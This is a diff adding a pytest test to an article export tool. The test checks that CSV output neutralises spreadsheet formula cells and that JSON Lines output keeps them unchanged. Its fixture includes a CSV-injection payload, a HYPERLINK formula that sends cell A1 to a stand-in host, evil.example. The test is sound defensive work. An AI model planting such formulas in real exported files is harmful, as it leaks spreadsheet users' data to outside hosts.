@@ -154,3 +154,50 @@ def test_export_runs_as_the_reader_role(db: Any) -> None:
     written = export.export_articles(db, out, since=date(2026, 10, 1), until=date(2026, 12, 31))
     db.rollback()
     assert written == len(ARTICLES)
+
+
+#: Cells a spreadsheet would run as formulas (OWASP "CSV Injection"): each leading = + - @,
+#: tab or carriage return is neutralised with a single quote in CSV, and kept in JSON Lines.
+HOSTILE = {
+    "title": '=HYPERLINK("https://evil.example/?leak="&A1,"Kuril talks")',
+    "summary": "+SUM(1,2)",
+    "body": "-2+3 said the minister",
+    "authors": ["@SUM(1)", "Ken Sato"],
+    "tags": ["\tWorld", "=Asia"],
+}
+
+
+def test_csv_neutralises_formula_cells_and_jsonl_keeps_them(url: str, tmp_path: Path) -> None:
+    import psycopg2
+
+    conn = psycopg2.connect(url)
+    with conn, conn.cursor() as cur:
+        cur.execute("UPDATE articles SET title = %(title)s, summary = %(summary)s, "
+                    "body = %(body)s, authors = %(authors)s, tags = %(tags)s WHERE url = %(url)s",
+                    {**HOSTILE, "url": ARTICLES["en_fishing"]["url"]})
+        cur.execute("UPDATE articles SET title = %s, summary = %s WHERE url = %s",
+                    ("\rcarriage return", "a=b stays as it is",
+                     ARTICLES["en_drills"]["url"]))
+    conn.close()
+    args = ("--since", "2026-11-02", "--until", "2026-11-30", "--language", "en")
+
+    run(url, tmp_path, *args, "--format", "csv", name="hostile.csv")
+    with (tmp_path / "hostile.csv").open(encoding="utf-8", newline="") as f:
+        table = list(csv.DictReader(f))
+    assert len(table) == 2  # a carriage return inside a cell does not end its row
+    rows = {r["url"]: r for r in table}
+    fishing = rows[ARTICLES["en_fishing"]["url"]]
+    assert {k: fishing[k] for k in HOSTILE} == {
+        "title": "'" + HOSTILE["title"], "summary": "'+SUM(1,2)",
+        "body": "'-2+3 said the minister", "authors": "'@SUM(1); Ken Sato",
+        "tags": "'\tWorld; =Asia"}
+    drills = rows[ARTICLES["en_drills"]["url"]]
+    assert (drills["title"], drills["summary"]) == ("'\rcarriage return", "a=b stays as it is")
+    # the columns not written by outlets keep their plain form
+    assert fishing["relevance_score"] == "0.92" and fishing["truncated"] == "false"
+    assert fishing["published_at"] == "2026-11-02T03:00:00Z"
+
+    records = {r["url"]: r for r in map(json.loads, run(
+        url, tmp_path, *args, "--format", "jsonl").splitlines())}
+    assert {k: records[ARTICLES["en_fishing"]["url"]][k] for k in HOSTILE} == HOSTILE
+    assert records[ARTICLES["en_drills"]["url"]]["title"] == "\rcarriage return"
